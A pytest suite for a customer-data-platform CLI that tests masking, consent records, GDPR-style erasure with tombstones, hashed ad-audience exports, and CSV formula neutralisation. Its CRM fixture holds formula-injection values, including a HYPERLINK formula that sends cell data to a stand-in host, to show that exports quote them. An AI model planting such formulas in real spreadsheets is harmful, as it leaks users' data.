"""Privacy: consents by hand, `cdp forget` with tombstones, hashed audiences, CSV formula safety."""

from __future__ import annotations

import csv
import functools
import hashlib
import io
import json
import os
import pty
import shutil
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import assume, given
from hypothesis import strategies as st

from cdp_cli.cli import cli
from cdp_cli.config import load_config
from cdp_cli.csvsafe import FORMULA_STARTS, safe_cell, safe_row
from cdp_cli.forget import HANDLED_TABLES, find_target, forget
from cdp_cli.identity.normalize import Normalizer
from cdp_cli.identity.profiles import Lookup
from cdp_cli.identity.settings import IdentityRules
from cdp_cli.identity.tombstones import Tombstones, tombstone_hash
from cdp_cli.ingest import ingest_file
from cdp_cli.privacy import mask_email, mask_phone, mask_text
from cdp_cli.store import open_store
from tests.conftest import demo_once, query

NOW = "2026-11-15 10:30"
CONFIG = """
store: cdp.db
timezone: Asia/Shanghai
brand: {name: 花漾, url: "https://hy.example.com"}
channels:
  sms: {cost: 0.04}
  wechat: {appid: wx1, cost: 0}
sources:
  crm:
    kind: customers
    key: member
    fields: {member_no: member, name: name, phone: phone, email: email, city: city,
             wechat_appid: appid, wechat_openid: openid}
  orders:
    kind: orders
    key: order_id
    fields: {order_id: order_id, member_no: member, phone: phone, amount: amount, ordered_at: at}
    items: {from: items}
  optouts:
    kind: consents
    fields: {phone: phone, channel: channel, status: "=opt_out", consented_at: at}
"""
CRM_HEADER = "member,name,phone,email,city,appid,openid\n"
CRM = (
    CRM_HEADER
    + """M1,欧阳娜娜,13800000001,Nana.OY@QQ.com,武汉,wx1,oNaNa01
M2,王芳,13800000002,,北京,,
M3,=HYPERLINK("http://x.example/?"&A1),13800000003,,@SUM(1+1),,
M4,刘洋,,,成都,,
"""
)
ORDERS = """order_id,member,phone,amount,at,items
O1,M1,,100,2026-06-01 10:00:00,"[{""sku"": ""S1"", ""name"": ""精华"", ""price"": 100, ""qty"": 1, ""engraving"": ""给娜娜""}]"
O2,M2,13800000001,50,2026-06-02 10:00:00,
O3,M2,,70,2026-06-03 10:00:00,
"""
TEMPLATE = "【{{ brand.name }}】{{ customer.name|default_name }}，你好 {{ link }}"
WECHAT = """{"touser": "{{ wechat.openid }}", "template_id": "T1", "url": "{{ link }}",
 "data": {"thing1": {"value": "{{ customer.name|default_name }}"}}}
"""


def journey(name: str, channel: str = "sms") -> str:
    return f'name: {name}\nentry: {{when: "city is not null"}}\nsteps:\n  - send: {{channel: {channel}, template: hello}}\n'


@pytest.fixture
def project(run, write, tmp_path):
    write("cdp.yaml", CONFIG)
    write("crm.csv", CRM)
    write("orders.csv", ORDERS)
    write("optouts.csv", "phone,channel,at\n13800000004,sms,2026-01-01 10:00:00\n")
    write("templates/sms/hello.txt", TEMPLATE)
    write("templates/wechat/hello.json", WECHAT)
    write("tag_rules/t.yaml", "- name: wuhan\n  when: \"city = '武汉'\"\n")
    for name, source in [("crm.csv", "crm"), ("orders.csv", "orders"), ("optouts.csv", "optouts")]:
        assert run("ingest", name, "-s", source).exit_code == 0
    assert run("resolve").exit_code == 0
    assert run("tag", "--as-of", "2026-11-15").exit_code == 0
    return tmp_path


def one_id_of(tmp_path: Path, member: str) -> str:
    return query(
        tmp_path / "cdp.db", "SELECT one_id FROM id_mapping WHERE source='crm' AND key=?", member
    )[0][0]


def ok(result):
    assert result.exit_code == 0, result.output
    return result


def csv_rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


def dict_rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


def store_bytes(folder: Path) -> bytes:
    return b"".join(
        (folder / name).read_bytes()
        for name in ("cdp.db", "cdp.db-wal")
        if (folder / name).exists()
    )


# ---------------------------------------------------------------------------------------------
# Masking free text


@given(
    st.lists(
        st.one_of(
            st.from_regex(r"1[3-9][0-9]{9}", fullmatch=True),
            st.from_regex(r"[a-z][a-z0-9.]{0,8}@[a-z]{1,8}\.(com|cn)", fullmatch=True),
            st.sampled_from(["M0000001", "李娜", "2025-01-01", "398.00", "pos-20261118.csv"]),
        ),
        min_size=1,
        max_size=6,
    )
)
def test_masked_text_keeps_no_phone_or_email_and_leaves_the_rest(cells):
    masked = mask_text(", ".join(cells))
    for cell in cells:
        if "@" in cell:
            assert cell not in masked and mask_email(cell) in masked
        elif cell.isdigit():
            assert cell not in masked and mask_phone(cell) in masked
        else:
            assert cell in masked


# ---------------------------------------------------------------------------------------------
# CSV formula neutralisation

numbers = st.one_of(
    st.integers().map(str),
    st.floats(allow_nan=False, allow_infinity=False).map(repr),
    st.integers(min_value=0).map(lambda n: f"+{n}"),
    st.from_regex(r"\+86 ?1[3-9][0-9]{9}", fullmatch=True).map(lambda s: s.replace(" ", "")),
)


@given(st.text())
def test_a_cell_is_unchanged_or_quoted_and_never_starts_a_formula(text):
    cell = safe_cell(text)
    assert cell in (text, "'" + text)
    if cell != text:  # lossless: the quote is the only change
        assert text.startswith(FORMULA_STARTS)
    if cell.startswith(FORMULA_STARTS):
        float(cell)  # only a plain number may start with a sign


def plain_number(text: str) -> bool:
    """An oracle apart from the implementation: what float() reads, in ASCII, without the
    spaces, underscores, inf and nan it also accepts."""
    try:
        float(text)
    except ValueError:
        return False
    odd = any(c.isspace() or c == "_" for c in text) or any(
        w in text.lower() for w in ("inf", "nan")
    )
    return text.isascii() and not odd


@given(st.sampled_from(FORMULA_STARTS), st.text())
def test_text_starting_like_a_formula_is_quoted_unless_a_plain_number(first, rest):
    text = first + rest
    assert (safe_cell(text) == text) == plain_number(text)


@given(numbers)
def test_plain_numbers_and_e164_phones_are_left_alone(text):
    assert safe_cell(text) == text


@given(st.lists(st.one_of(st.none(), st.integers(), st.floats(allow_nan=False), st.text())))
def test_a_row_written_and_read_back_holds_no_formula(row):
    buffer = io.StringIO(newline="")
    csv.writer(buffer).writerow(safe_row(row))
    [back] = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    for original, cell in zip(row, back, strict=True):
        if isinstance(original, str):
            assert cell == safe_cell(original)
        assert not cell.startswith(FORMULA_STARTS) or plain_number(cell) or "inf" in cell


# ---------------------------------------------------------------------------------------------
# Finding a forgotten identifier in a rejected line


@functools.lru_cache
def scanner(*identifiers: tuple[str, str]) -> Tombstones:
    salt = b"k" * 32
    hashes = {tombstone_hash(salt, t, v) for t, v in identifiers}
    return Tombstones(salt, hashes, {t for t, _ in identifiers}, IdentityRules(), "CN")


NORMALIZER = Normalizer(IdentityRules(), "CN")
mobiles = st.from_regex(r"1[3-9][0-9]{9}", fullmatch=True)
no_digits = st.text(st.characters(blacklist_categories=["Nd", "Cs"], blacklist_characters="@"))


@given(mobiles, st.sampled_from(["{}", "+86{}", "+86 {}", "0086-{}", "{0}-{1}-{2}", "{0} {1} {2}"]),
       st.lists(no_digits, max_size=4), st.integers(0, 4))  # fmt: skip
def test_a_forgotten_phone_is_found_in_a_line_however_written(mobile, form, fields, at):
    found, _ = NORMALIZER.identifiers({"phone": mobile})
    assume(found)  # a blocklisted number (13000000000) identifies no one: never forgotten
    written = (
        form.format(mobile[:3], mobile[3:7], mobile[7:]) if "{0}" in form else form.format(mobile)
    )
    line = ",".join([*fields[:at], written, *fields[at:]])
    assert scanner(("phone", "+86" + mobile)).mentioned_in(line)
    other = "13912345678" if mobile != "13912345678" else "13912345679"
    assert not scanner(("phone", "+86" + other)).mentioned_in(line)


@given(st.lists(no_digits, max_size=4))
def test_a_line_without_their_identifiers_names_no_one(fields):
    found = scanner(("phone", "+8613800138000"), ("email", "li.na@example.com"))
    assert not found.mentioned_in(",".join(fields))
    assert not found.mentioned_in(",".join([*fields, "ali.na@example.com", "13800138001"]))
    assert found.mentioned_in(",".join([*fields, "LI.NA@Example.com "]))


def test_segment_and_id_mapping_exports_neutralise_formulas(run, project, tmp_path):
    ok(run("segment", "--rule", "true", "--export", "all.csv",
           "--fields", "one_id,name,phone,city,total_spent"))  # fmt: skip
    rows = dict_rows(tmp_path / "all.csv")
    by_name = {r["name"]: r for r in rows}
    evil = by_name['\'=HYPERLINK("http://x.example/?"&A1)']
    assert evil["city"] == "'@SUM(1+1)"
    assert evil["phone"] == "+8613800000003"  # a phone in E.164 is a plain number: unchanged
    # JSON Lines is not for spreadsheets: written as it is.
    ok(run("segment", "--rule", "true", "--export", "all.jsonl", "--fields", "name"))
    names = [json.loads(line)["name"] for line in (tmp_path / "all.jsonl").read_text().splitlines()]
    assert '=HYPERLINK("http://x.example/?"&A1)' in names
    write_key = tmp_path / "evil.csv"
    write_key.write_text(
        "member,name,phone,email,city,appid,openid\n-1+cmd,x,,,,,\n", encoding="utf-8"
    )
    ok(run("ingest", "evil.csv", "-s", "crm"))
    ok(run("resolve", "--export", "map.csv"))
    keys = [r["key"] for r in dict_rows(tmp_path / "map.csv")]
    assert "'-1+cmd" in keys and "M1" in keys


def test_the_outbound_sms_csv_is_not_neutralised(run, write, project, tmp_path):
    write("journeys/hello.yaml", journey("hello"))
    ok(run("journey", "run", "--now", NOW))
    [path] = (tmp_path / "outbound" / "sms").glob("*.csv")
    text = path.read_text(encoding="utf-8")
    assert ",+8613800000001," in text and "'+86" not in text


# ---------------------------------------------------------------------------------------------
# Hashed exports


def sha(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def test_hashed_exports_in_google_and_meta_layouts(run, write, project, tmp_path):
    # The two worked examples Meta publishes for its hashing: an email and a US phone.
    write("us.csv", CRM_HEADER + "M9,John,+1 (650) 555-1212,John_Smith@gmail.com ,,,\n")
    ok(run("ingest", "us.csv", "-s", "crm"))
    ok(run("resolve"))
    ok(run("tag", "--as-of", "2026-11-15"))
    rule = "true"
    result = ok(run("segment", "--rule", rule, "--export", "g.csv", "--hashed", "--json"))
    report = json.loads(result.stdout)
    # M1, M2, M3, M9 and the opt-out of 13800000004; M4 has neither email nor phone
    assert report["layout"] == "google" and report["exported"] == 5
    rows = csv_rows(tmp_path / "g.csv")
    assert rows[0] == ["Email", "Phone"]
    assert [sha("nana.oy@qq.com"), sha("+8613800000001")] in rows[1:]
    assert [sha("john_smith@gmail.com"), sha("+16505551212")] in rows[1:]
    assert ["", sha("+8613800000002")] in rows[1:]
    ok(run("segment", "--rule", rule, "--export", "m.csv", "--hashed", "--layout", "meta"))
    rows = csv_rows(tmp_path / "m.csv")
    assert rows[0] == ["email", "phone"]
    meta_email = "62a14e44f765419d10fea99367361a727c12365e2520f32218d505ed9aa0f62f"
    meta_phone = "e323ec626319ca94ee8bff2e4c87cf613be6ea19919ed1364124e16807ab3176"
    assert [meta_email, meta_phone] in rows[1:]
    assert [sha("nana.oy@qq.com"), sha("8613800000001")] in rows[1:]
    text = (tmp_path / "m.csv").read_text()
    assert "13800000001" not in text and "qq.com" not in text


def test_hashed_export_repeats_columns_for_several_phones(run, write, project, tmp_path):
    write(
        "more.csv",
        "order_id,member,phone,amount,at,items\n"
        "O9,M1,13800000011,1,2026-06-01 10:00:00,\nO10,M1,13800000012,1,2026-06-01 10:00:00,\n",
    )
    ok(run("ingest", "more.csv", "-s", "orders"))
    ok(run("resolve"))
    ok(run("segment", "--rule", "city = '武汉'", "--export", "w.csv", "--hashed"))
    rows = csv_rows(tmp_path / "w.csv")
    assert rows[0] == ["Email", "Phone", "Phone", "Phone"]
    phones = ["+8613800000001", "+8613800000011", "+8613800000012"]
    assert rows[1] == [sha("nana.oy@qq.com"), *map(sha, phones)]


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--hashed"], "--hashed goes with --export FILE"),
        (["--export", "x.csv", "--layout", "meta"], "--layout goes with --hashed"),
        (["--export", "x.csv", "--hashed", "--fields", "phone"], "leave out --fields"),
        (["--export", "x.jsonl", "--hashed"], "x.jsonl: a hashed export is written as .csv"),
    ],
)
def test_hashed_export_usage_errors(run, project, args, message):
    result = run("segment", "--rule", "true", *args)
    assert result.exit_code == 2
    assert message in result.output


# ---------------------------------------------------------------------------------------------
# Consents by hand


def run_journey(run, name):
    [result] = json.loads(ok(run("journey", "run", name, "--now", NOW, "--json")).stdout)
    return result


def test_a_consent_by_hand_is_obeyed_at_once_and_resolve_makes_no_customer_of_it(
    run, write, project, tmp_path
):
    write("journeys/first.yaml", journey("first"))
    write("journeys/second.yaml", journey("second"))
    customers = query(tmp_path / "cdp.db", "SELECT count(*) FROM profiles")[0][0]
    m1 = one_id_of(tmp_path, "M1")
    result = ok(run("consent", "--phone", "138 0000 0001", "--channel", "sms", "--opt-out",
                    "--reason", "replied TD"))  # fmt: skip
    assert "Recorded: " + m1 + " opted out of sms" in result.stderr
    assert "138****0001" in result.stderr and "13800000001" not in result.output
    first = run_journey(run, "first")
    assert first["skipped"]["opted out"] == 1
    reason = query(tmp_path / "cdp.db", "SELECT reason FROM messages WHERE one_id = ?", m1)
    assert reason == [("opted out (sms: opted out)",)]

    ok(run("consent", m1, "--channel", "sms", "--opt-in"))
    second = run_journey(run, "second")
    assert second["skipped"] == {"unreachable": 1}  # M4 has no phone; M1 is sent to again
    status = query(tmp_path / "cdp.db",
                   "SELECT status FROM messages WHERE one_id = ? AND journey = 'second'", m1)  # fmt: skip
    assert status == [("written",)]

    resolved = json.loads(ok(run("resolve", "--json")).stdout)
    assert resolved["created"] == 0 and resolved["profiles"] == customers
    ok(run("resolve", "--full"))
    linked = query(tmp_path / "cdp.db",
                   "SELECT DISTINCT one_id FROM id_mapping WHERE source = 'manual'")  # fmt: skip
    assert linked == [(m1,)]
    assert query(tmp_path / "cdp.db", "SELECT count(*) FROM profiles")[0][0] == customers


def test_a_consent_by_one_id_is_carried_by_the_strongest_identifier(run, project, tmp_path):
    m1 = one_id_of(tmp_path, "M1")
    result = ok(run("consent", m1, "--channel", "all", "--opt-out", "--json"))
    report = json.loads(result.stdout)
    assert report["recorded"]["identifier_type"] == "member_no"
    assert report["journeys_skip"] == ["sms", "email", "wechat", "push"]
    row = query(tmp_path / "cdp.db", "SELECT member_no, phone, source, batch_id, key "
                "FROM consents WHERE source = 'manual'")  # fmt: skip
    assert row == [("M1", None, "manual", report["recorded"]["batch_id"],
                    str(report["recorded"]["batch_id"]))]  # fmt: skip
    email = json.loads(ok(run("consent", "--email", "NANA.oy@qq.com", "--channel", "email",
                              "--opt-in", "--json", "--unmask")).stdout)  # fmt: skip
    assert email["recorded"]["identifier"] == "nana.oy@qq.com"
    assert [c["channel"] for c in email["history"]] == ["all", "email"]
    assert email["journeys_skip"] == ["sms", "email", "wechat", "push"]  # `all` still covers it


@pytest.mark.parametrize(
    ("written", "channel"), [("短信", "sms"), ("SMS", "sms"), (" 微信", "wechat")]
)
def test_a_consent_channel_is_read_as_a_consents_export_writes_it(
    run, project, tmp_path, written, channel
):
    report = json.loads(
        ok(
            run("consent", "--phone", "13800000001", "--channel", written, "--opt-out", "--json")
        ).stdout
    )
    assert [c["channel"] for c in report["latest"]] == [channel]
    stored = query(tmp_path / "cdp.db", "SELECT channel FROM consents WHERE source = 'manual'")
    assert stored == [(channel,)]


def test_consent_usage_and_lookup_errors(run, project):
    assert run("consent", "--channel", "sms", "--opt-out").exit_code == 2
    result = run("consent", "--phone", "13800000001", "--channel", "sms")
    assert result.exit_code == 2
    assert "--channel and --reason go with --opt-out or --opt-in" in result.output
    result = run("consent", "--phone", "13800000001", "--opt-out")
    assert result.exit_code == 2 and "--opt-out and --opt-in need --channel" in result.output
    result = run("consent", "--phone", "13999999999")  # no customer and no suppression
    assert result.exit_code == 1
    assert result.output.strip() == "Error: no customer has the phone 139****9999"
    result = run("consent", "C999999999", "--channel", "sms", "--opt-out")
    assert result.exit_code == 1
    assert result.output.strip() == "Error: no customer has the one_id C999999999"
    result = run("consent", "--phone", "12345", "--channel", "sms", "--opt-out")
    assert result.exit_code == 2 and "not a valid phone number" in result.output
    shown = ok(run("consent", "--phone", "13800000004"))
    assert "sms      opt_out" in shown.stdout and "skip for" in shown.stdout


@pytest.mark.parametrize(
    ("given", "said"),
    [
        ("13800000001", "138****0001: that is a phone number; find the customer with --phone"),
        (
            "+86 138-0000-0001",
            "138****0001: that is a phone number; find the customer with --phone",
        ),
        (" li.na@qq.com", "l***@qq.com: that is an email address; find the customer with --email"),
    ],
)
def test_a_phone_or_email_given_as_one_id_is_named_masked_with_the_way_to_look_it_up(
    run, project, given, said
):
    for command in (["profile"], ["consent"], ["forget", "--yes"], ["resolve", "--explain"]):
        result = run(*command, given)
        assert result.exit_code == 1, (command, result.output)
        assert result.stderr.startswith(f"Error: no customer has the one_id {said}"), command
        assert "13800000001" not in result.output and "li.na" not in result.output


def test_a_one_id_in_lower_case_is_pointed_at_its_customer(run, project, tmp_path):
    one_id = query(tmp_path / "cdp.db", "SELECT min(one_id) FROM profiles")[0][0]
    result = run("profile", one_id.lower())
    assert result.exit_code == 1
    assert result.stderr.strip() == (
        f"Error: no customer has the one_id {one_id.lower()} (did you mean {one_id}?)"
    )
    unknown = run("profile", "c999999999")
    assert unknown.stderr.strip() == "Error: no customer has the one_id c999999999"


def test_contradictory_consent_flags_are_a_usage_error(run, project, tmp_path):
    before = query(tmp_path / "cdp.db", "SELECT count(*) FROM consents")
    result = run("consent", "--phone", "13800000001", "--channel", "sms", "--opt-out", "--opt-in")
    assert result.exit_code == 2
    assert "give one of --opt-out and --opt-in, not both" in result.output
    assert query(tmp_path / "cdp.db", "SELECT count(*) FROM consents") == before


def test_an_opt_out_before_the_person_is_known_holds_when_they_arrive(
    run, write, project, tmp_path
):
    customers = query(tmp_path / "cdp.db", "SELECT count(*) FROM profiles")[0][0]
    result = ok(run("consent", "--phone", "139 0000 0007", "--channel", "sms", "--opt-out",
                    "--reason", "replied TD", "--json", "--unmask"))  # fmt: skip
    recorded = json.loads(result.stdout)
    assert recorded["one_id"] is None and recorded["journeys_skip"] == ["sms"]
    assert recorded["recorded"]["identifier"] == "+8613900000007"
    ok(run("consent", "--email", "New.Comer@QQ.com", "--channel", "all", "--opt-out"))
    shown = ok(run("consent", "--phone", "13900000007"))
    assert "sms      opt_out" in shown.stdout and "no customer has it yet" in shown.stdout
    resolved = json.loads(ok(run("resolve", "--json")).stdout)
    assert resolved["created"] == 0  # a suppression is no customer

    write("crm_later.csv", CRM_HEADER + "M7,新客,+86 139-0000-0007,,武汉,,\n"
          "M8,新人,13900000008,new.comer@qq.com,武汉,,\n")  # fmt: skip
    ok(run("ingest", "crm_later.csv", "-s", "crm"))
    ok(run("resolve"))
    ok(run("tag", "--as-of", "2026-11-15"))
    assert query(tmp_path / "cdp.db", "SELECT count(*) FROM profiles")[0][0] == customers + 2
    write("journeys/later.yaml", journey("later"))
    later = run_journey(run, "later")
    m7, m8 = one_id_of(tmp_path, "M7"), one_id_of(tmp_path, "M8")
    reasons = dict(query(tmp_path / "cdp.db",
                         "SELECT one_id, reason FROM messages WHERE journey = 'later'"))  # fmt: skip
    assert reasons[m7] == reasons[m8] == "opted out (sms: opted out)"
    assert later["skipped"]["opted out"] == 2
    report = json.loads(ok(run("consent", m7, "--json")).stdout)
    assert report["journeys_skip"] == ["sms"] and report["history"][0]["reason"] == "replied TD"

    ok(run("forget", m7, "--yes"))
    left = query(tmp_path / "cdp.db", "SELECT count(*) FROM consents WHERE phone = ?",
                 "+8613900000007")  # fmt: skip
    assert left == [(0,)]


# ---------------------------------------------------------------------------------------------
# Forgetting: on the demo, as the issue asks


@pytest.fixture(scope="module")
def demo_store(tmp_path_factory):
    return demo_once(tmp_path_factory) / "demo"


@pytest.fixture
def demo(demo_store, tmp_path, monkeypatch):
    folder = tmp_path / "demo"
    shutil.copytree(demo_store, folder)
    monkeypatch.chdir(folder)
    return folder


def cdp(*args: str, input: str | None = None):
    return CliRunner().invoke(cli, list(args), input=input, catch_exceptions=False)


def personal_values(folder: Path, phone: str) -> dict[str, str]:
    """Everything identifying the customer with this phone, as the store holds it."""
    [(one_id, name)] = query(
        folder / "cdp.db",
        "SELECT p.one_id, p.name FROM profiles p JOIN identifiers i ON i.one_id = p.one_id "
        "WHERE i.type = 'phone' AND i.value = ?", "+86" + phone,
    )  # fmt: skip
    values = dict(query(folder / "cdp.db",
                        "SELECT type, value FROM identifiers WHERE one_id = ?", one_id))  # fmt: skip
    values["wechat_openid"] = values.get("wechat_openid", ":").split(":", 1)[1]
    return {**values, "name": name, "one_id": one_id, "phone as written": phone}


def test_after_forget_no_byte_of_them_is_left_in_the_store_or_unsent_files(demo):
    li_na = personal_values(demo, "13800138000")
    gao = personal_values(demo, "13647922623")  # in the winback SMS file, waiting to be sent
    assert gao["name"] == "高琪岚"
    outbound = sorted(p for p in (demo / "outbound").rglob("*") if p.is_file())
    assert any(gao["one_id"].encode() in p.read_bytes() for p in outbound)
    before = {p: p.read_bytes() for p in outbound}
    for phone in ("13800138000", "136-4792-2623"):
        result = ok(cdp("forget", "--phone", phone, "--yes"))
        assert "the erased bytes are gone from disk" in result.stderr
    raw = store_bytes(demo)
    for person in (li_na, gao):
        for kind, value in person.items():
            if kind != "one_id":
                assert value.encode() not in raw, (kind, value)
    for path in outbound:
        content = path.read_bytes()
        for kind, value in gao.items():
            assert value.encode() not in content, (path, kind, value)
        # Other customers' rows stay exactly as they were.
        others = [line for line in before[path].splitlines(keepends=True)
                  if gao["one_id"].encode() not in line]  # fmt: skip
        assert content == b"".join(others)
    # The forgotten one_id is recorded, for systems that took the ID mapping.
    events = query(demo / "cdp.db", "SELECT one_id FROM id_history WHERE event = 'forgotten'")
    assert sorted(events) == sorted([(li_na["one_id"],), (gao["one_id"],)])


def test_rejected_lines_that_name_them_go_and_others_stay(demo):
    rejects = query(demo / "cdp.db", "SELECT count(*) FROM rejects")[0][0]
    assert query(demo / "cdp.db", "SELECT count(*) FROM rejects WHERE raw LIKE '%13971200024%'")
    result = json.loads(ok(cdp("forget", "--phone", "+86 139 7120 0024", "--yes", "--json")).stdout)
    assert result["rejects"] == 2
    assert query(demo / "cdp.db", "SELECT count(*) FROM rejects")[0][0] == rejects - 2
    assert b"13971200024" not in store_bytes(demo)


def test_orders_keep_the_books_and_lose_the_person(demo):
    db = demo / "cdp.db"
    total = query(db, "SELECT sum(amount), count(*) FROM orders")
    ok(cdp("forget", "--phone", "13800138000", "--yes"))
    assert query(db, "SELECT sum(amount), count(*) FROM orders") == total
    [row] = query(db, "SELECT amount, ordered_at, channel, status, identity_key, phone, email, "
                  "wechat_unionid, attrs, items FROM orders WHERE order_id = 'SO2025030988000001'")  # fmt: skip
    assert row[:4] == (288.0, "2025-03-09T10:21:05+08:00", "own_shop", "paid")
    assert row[4:9] == (None, None, None, None, None)
    items = json.loads(row[9])
    assert [set(i) for i in items] == [{"sku", "name", "category", "price", "quantity"}] * 2
    assert items[0]["sku"] == "SK-1001" and items[0]["price"] == 199.0


def test_forget_reaches_every_table_that_holds_them(demo):
    db = demo / "cdp.db"
    one_id = personal_values(demo, "13647922623")["one_id"]
    found = {t: query(db, f"SELECT count(*) FROM {t} WHERE one_id = ?", one_id)[0][0]
             for t in ("profile_tags", "tag_changes", "profile_features", "journey_enrolments",
                       "messages", "coupon_issues", "profile_event_counts")}  # fmt: skip
    assert found["messages"] and found["profile_tags"] and found["journey_enrolments"]
    result = json.loads(ok(cdp("forget", "--phone", "13647922623", "--yes", "--json")).stdout)
    assert result["messages_kept_without_person"] == found["messages"]
    assert result["journey_enrolments"] == found["journey_enrolments"]
    for table in found:
        assert query(db, f"SELECT count(*) FROM {table} WHERE one_id = ?", one_id) == [(0,)]
    kept = query(db, "SELECT status, address, payload, cost > 0 FROM messages "
                 "WHERE one_id = 'forgotten'")  # fmt: skip
    assert kept and all(row == ("written", None, None, 1) for row in kept)
    assert query(db, "SELECT count(*) FROM identifiers WHERE one_id = ?", one_id) == [(0,)]
    assert query(db, "SELECT count(*) FROM profiles WHERE one_id = ?", one_id) == [(0,)]
    # Masked in what it prints, as every command is.
    assert {i["value"] for i in result["identifiers"] if i["type"] == "phone"} == {"136****2623"}


def test_profile_shows_consents_journeys_and_messages_masked(demo):
    one_id = personal_values(demo, "13647922623")["one_id"]
    ok(cdp("consent", one_id, "--channel", "email", "--opt-out", "--reason", "asked in store"))
    view = json.loads(ok(cdp("profile", one_id, "--json")).stdout)
    [email] = [c for c in view["consents"] if c["channel"] == "email"]
    assert (email["status"], email["source"]) == ("opt_out", "manual")
    latest = json.loads(ok(cdp("consent", one_id, "--json")).stdout)["latest"]
    assert view["consents"] == latest  # as `cdp consent` computes it
    stored = query(demo / "cdp.db", "SELECT journey, entered_at, status FROM journey_enrolments "
                   "WHERE one_id = ? ORDER BY entered_at, id", one_id)  # fmt: skip
    assert stored and [(j["journey"], j["entered_at"], j["status"]) for j in view["journeys"]] == [
        tuple(row) for row in stored
    ]
    assert all(j["group"] in ("treatment", "holdout", "control") for j in view["journeys"])
    sent = [m for m in view["messages"] if m["channel"] == "sms" and m["status"] == "written"]
    assert sent and {m["address"] for m in sent} == {"136****2623"}
    assert "13647922623" not in json.dumps(view)
    unmasked = json.loads(ok(cdp("profile", one_id, "--json", "--unmask")).stdout)
    assert {m["address"] for m in unmasked["messages"] if m["channel"] == "sms"} == {
        "+8613647922623"
    }
    text = ok(cdp("profile", one_id)).stdout
    for section in ("Consents", "Journeys", "Messages"):
        assert section in text
    assert "136****2623" in text and "13647922623" not in text
    assert view["journeys"][0]["journey"] in text and "opt_out" in text


def test_every_table_holding_people_is_one_forget_knows(demo):
    """A table added later with a one_id, identity key or personal column must be handled by
    forget (or listed as needing nothing), or this fails."""
    db = sqlite3.connect(demo / "cdp.db")
    personal = {"one_id", "identity_key", "key", "address", "payload", "raw", "name", "phone",
                "email", "value", "other_one_id"}  # fmt: skip
    holding = {
        table
        for (table,) in db.execute("SELECT name FROM sqlite_master WHERE type = 'table'")
        if personal & {c[1] for c in db.execute(f"PRAGMA table_info({table})")}
    }
    db.close()
    assert holding - set(HANDLED_TABLES) == set()


def test_forget_leaves_none_of_their_keys_for_the_next_tag_run(demo):
    """Keys a re-ingested row left wait in feature_left_keys for the next tag run; an
    erasure takes the forgotten person's out (that run reads everyone anyway)."""
    store = demo / "cdp.db"
    conn = sqlite3.connect(store)
    keys = {
        k
        for (k,) in conn.execute(
            "SELECT key FROM identity_keys WHERE one_id = (SELECT k.one_id FROM customers c "
            "JOIN identity_keys k ON k.key = c.identity_key WHERE c.key = 'M0000001')"
        )
    }
    conn.executemany("INSERT OR IGNORE INTO feature_left_keys VALUES (?)", [(k,) for k in keys])
    conn.commit()
    conn.close()
    assert keys and query(store, "SELECT count(*) FROM feature_left_keys")[0][0] == len(keys)
    ok(cdp("forget", "--phone", "13800138000", "--yes"))
    assert query(store, "SELECT count(*) FROM feature_left_keys")[0][0] == 0


def test_a_forgotten_person_does_not_come_back_with_an_old_export(demo):
    ok(cdp("forget", "--phone", "13800138000", "--yes"))
    customers = query(demo / "cdp.db", "SELECT count(*) FROM profiles")[0][0]
    ok(cdp("ingest", "--force"))
    resolved = json.loads(ok(cdp("resolve", "--json")).stdout)
    assert resolved["created"] == 0 and resolved["profiles"] == customers
    result = cdp("profile", "--phone", "13800138000")
    assert result.exit_code == 1
    withheld = query(
        demo / "cdp.db", "SELECT DISTINCT raw FROM rejects WHERE problem = 'forgotten'"
    )
    assert withheld == [("(withheld: the row carries an identifier of a forgotten person)",)]
    raw = store_bytes(demo)
    for value in ("13800138000", "li.na@example.com", "李娜".encode().decode(), "M0000001,"):
        assert value.encode() not in raw, value


def test_rows_past_an_unscreened_ingest_are_erased_by_resolve(demo):
    """A library caller of ingest_file without a screen: resolve refuses the rows instead."""
    ok(cdp("forget", "--phone", "13800138000", "--yes"))
    config = load_config(demo / "cdp.yaml")
    db = open_store(config.store)
    try:
        result = ingest_file(db, config.source("crm_members"), demo / "sample_data/crm_members.csv",
                             force=True)  # fmt: skip
    finally:
        db.close()
    assert (result.inserted, result.rejected) == (1, 2)  # unscreened: their row got in
    resolved = json.loads(ok(cdp("resolve", "--json")).stdout)
    assert resolved["created"] == 0
    assert any("forgotten person: erased" in n for n in resolved["notes"])
    assert cdp("profile", "--phone", "13800138000").exit_code == 1
    assert query(
        demo / "cdp.db", "SELECT count(*) FROM customers WHERE member_no = 'M0000001'"
    ) == [(0,)]


def test_forget_answers_for_the_absent_and_the_forgotten(demo):
    result = cdp("forget", "--phone", "13999999990", "--yes")
    assert result.exit_code == 1
    assert result.output.strip() == "Error: no customer has the phone 139****9990"
    one_id = personal_values(demo, "13800138000")["one_id"]
    ok(cdp("forget", one_id, "--yes"))
    for args in (["--phone", "13800138000"], [one_id], ["--email", "LI.NA@example.com"]):
        again = ok(cdp("forget", *args, "--yes"))
        assert "Forgotten already" in again.stdout
    result = cdp("forget", "--phone", "13800138000")
    assert result.exit_code == 2 and "add --yes" in result.output
    assert cdp("forget", "--yes").exit_code == 2


def test_forget_asks_on_a_terminal_and_no_keeps_them(demo):
    def answer(text: str) -> tuple[int, str]:
        primary, secondary = pty.openpty()
        env = {**os.environ, "CDP_DEBUG": "1", "COLUMNS": "200"}
        process = subprocess.Popen(
            [sys.executable, "-m", "cdp_cli", "forget", "--phone", "13800138000"],
            stdin=secondary, stdout=secondary, stderr=secondary, cwd=demo, env=env,
        )  # fmt: skip
        os.close(secondary)
        seen = b""
        deadline = time.monotonic() + 60
        while b"cannot be undone" not in seen and time.monotonic() < deadline:
            seen += os.read(primary, 4096)
        os.write(primary, text.encode() + b"\n")
        try:
            while chunk := os.read(primary, 4096):
                seen += chunk
        except OSError:  # the terminal closes when the process ends
            pass
        os.close(primary)
        return process.wait(timeout=60), seen.decode("utf-8", "replace")

    code, shown = answer("n")
    assert code == 1 and "Aborted" in shown
    assert "138****8000" in shown and "13800138000" not in shown.replace("--phone 13800138000", "")
